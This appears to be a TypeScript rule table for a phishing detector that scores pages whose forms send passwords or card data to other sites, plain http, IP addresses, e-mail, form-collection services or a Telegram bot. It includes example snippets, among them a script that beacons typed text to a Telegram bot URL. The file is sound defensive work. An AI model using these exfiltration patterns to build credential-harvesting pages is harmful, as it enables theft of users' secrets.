import { isOfFiles, isOfSellers, misplacedFolder } from '../../address/misplaced-folder.ts'
import { isPrivate } from '../../address/private-hosts.ts'
import { isFileHost } from '../../address/tenants.ts'
import { asksInPassing } from '../../intents/sign-in.ts'
import type { Spot } from '../../page/page.ts'
import { CARD, LOGIN, loginTo } from '../example-parts.ts'
import type { Facts } from '../facts.ts'
import { once } from '../once.ts'
import type { PageTable, Place, See } from '../rule.ts'

/** Targets of forms and scripts that send a secret, and pages that ask for one without protection. */
export const CREDENTIAL_FORM_TABLE = {
  id: 'credential-form',
  needs: 'html',
  spares: 'nobody',
  rules: {
    'content.form_cross_site': {
      points: 30,
      severity: 'high',
      category: 'phishing',
      message: 'What is typed into the form is sent to another website.',
      ref: null,
      when: sentBy('content.form_cross_site'),
      example: loginTo('https://vandorelh.com/in'),
      twin: LOGIN,
    },
    'content.form_http': {
      points: 30,
      severity: 'high',
      category: 'insecure_transport',
      message: 'What is typed into the form is sent unencrypted (http).',
      ref: null,
      when: sentBy('content.form_http'),
      example: loginTo('http://www.quarnelz-site.com/in'),
      twin: LOGIN,
    },
    'content.form_ip': {
      points: 30,
      severity: 'high',
      category: 'phishing',
      message: 'What is typed into the form is sent to a number (an IP address) in place of a website.',
      ref: null,
      when: sentBy('content.form_ip'),
      example: loginTo('https://203.0.113.7/in'),
      twin: LOGIN,
    },
    'content.form_mail': {
      points: 30,
      severity: 'high',
      category: 'phishing',
      message: 'What is typed into the form is sent by e-mail.',
      ref: null,
      when: sentBy('content.form_mail'),
      example: loginTo('mailto:anna@vandorelh.com'),
      twin: LOGIN,
    },
    'content.form_bot': {
      points: 35,
      severity: 'high',
      category: 'phishing',
      message: 'What is typed into the page is sent to a service that collects forms for anybody.',
      ref: null,
      when: (facts) => (asksForCard(facts) ? null : botOf(facts)),
      example: loginTo('https://formspree.io/f/x'),
      twin: '<form action="https://formspree.io/f/x"><input type="email" placeholder="Your address"><textarea placeholder="Your message"></textarea><button>Send</button></form>',
    },
    'content.card_collector': {
      points: 60,
      severity: 'critical',
      category: 'phishing',
      message: "A card's data is sent to a service that collects forms, as no honest shop does.",
      ref: null,
      when: (facts) => (asksForCard(facts) ? botOf(facts) : null),
      example: `<form action="https://formspree.io/f/x">${CARD}</form>`,
      twin: `<form action="/pay">${CARD}</form>`,
    },
    'content.form_chat': {
      points: 60,
      severity: 'critical',
      category: 'phishing',
      message: 'What is typed into the page is sent to a chat, as no honest website does.',
      ref: 'https://attack.mitre.org/techniques/T1567/004/',
      when: sentBy('content.form_chat'),
      example: `${LOGIN}<script>const send = (text) => navigator.sendBeacon('https://api.telegram.org/bot1:x/sendMessage?text=' + text)</script>`,
      twin: `${LOGIN}<a href="https://t.me/quarnelz">Telegram</a>`,
    },
    'content.password_over_http': {
      points: 20,
      severity: 'medium',
      category: 'insecure_transport',
      message: 'The page asks for a password over an unencrypted connection.',
      ref: null,
      when: (facts) => {
        const { last, page, secretFields } = facts
        // A log-in beside an article, and the router at home, are no reason to be warned of a fraud.
        if (last.url.protocol !== 'http:' || isPrivate(last) || asksInPassing(page, last)) return null
        const isPassword = secretFields.some(({ intent }) => intent === 'password')
        return isPassword ? atField(facts, last.url.origin, 'https:') : null
      },
      example: { url: 'http://www.quarnelz-site.com/', html: LOGIN },
      twin: { url: 'https://www.quarnelz-site.com/', html: LOGIN },
    },
    'content.file_host_credential': {
      points: 40,
      severity: 'high',
      category: 'phishing',
      message: 'The page asks for a secret from a place where files are kept, which could not even check it.',
      ref: null,
      when: (facts) => {
        const { last, secretFields } = facts
        return isFileHost(last) ? atField(facts, `${secretFields[0]?.intent} on ${last.host}`) : null
      },
      example: { url: 'https://quarnelz.s3.amazonaws.com/login.html', html: LOGIN },
      twin: LOGIN,
    },
    'content.intruded_page': {
      points: 60,
      severity: 'critical',
      category: 'phishing',
      message:
        'The page asks for a secret, and lies in a folder where intruders hide pages in websites of others.',
      ref: null,
      when: (facts) => {
        const folder = folderOf(facts)
        return folder !== null && isIntruded(folder, facts) ? atField(facts, folder) : null
      },
      example: { url: 'https://www.quarnelz-site.com/wp-includes/css/in/', html: LOGIN },
      twin: { url: 'https://www.quarnelz-site.com/wp-login.php', html: LOGIN },
    },
    'content.misplaced_page': {
      points: 25,
      severity: 'medium',
      category: 'phishing',
      message: 'The page asks for a secret, and lies in a folder in which websites have no pages.',
      ref: null,
      when: (facts) => {
        const folder = folderOf(facts)
        return folder !== null && !isIntruded(folder, facts) ? atField(facts, folder) : null
      },
      example: { url: 'https://www.quarnelz-site.com/wp-content/plugins/forms/in/', html: LOGIN },
      twin: { url: 'https://www.quarnelz-site.com/forms/in/', html: LOGIN },
    },
  },
} as const satisfies PageTable

const botOf = sentBy('content.form_bot')

/** The collector that a page's code names, or the first target that is wrong in one way. */
function sentBy(rule: string): See {
  return ({ collector, secretFields, misdirections, claim, last }) => {
    if (collector?.rule === rule) return placeOf(collector, null)
    const spot = secretFields.length === 0 ? undefined : misdirections.find((one) => one.rule === rule)
    return spot === undefined ? null : placeOf(spot, claim?.officialDomains[0] ?? last.owner)
  }
}

function placeOf({ at, offset, seen }: Spot & { readonly seen: string }, expected: string | null): Place {
  return { at, offset, seen, expected }
}

/** At the first field for a secret; null without one. */
function atField(
  { secretFields: [first] }: Facts,
  seen: string,
  expected: string | null = null,
): Place | null {
  return first === undefined ? null : { at: 'html:field', offset: first.field.offset, seen, expected }
}

function asksForCard({ secretFields }: Facts): boolean {
  return secretFields.some(({ intent }) => intent === 'card')
}

const folderOf = once(({ claim, isOwners, last }: Facts) =>
  claim?.isOfficial === true || isOwners ? null : misplacedFolder(last.url.pathname),
)

function isIntruded(folder: string, { secretFields }: Facts): boolean {
  const isPaid = secretFields.some(({ intent }) => intent === 'card' || intent === 'one_time_code')
  return isOfFiles(folder) || (isPaid && !isOfSellers(folder))
}
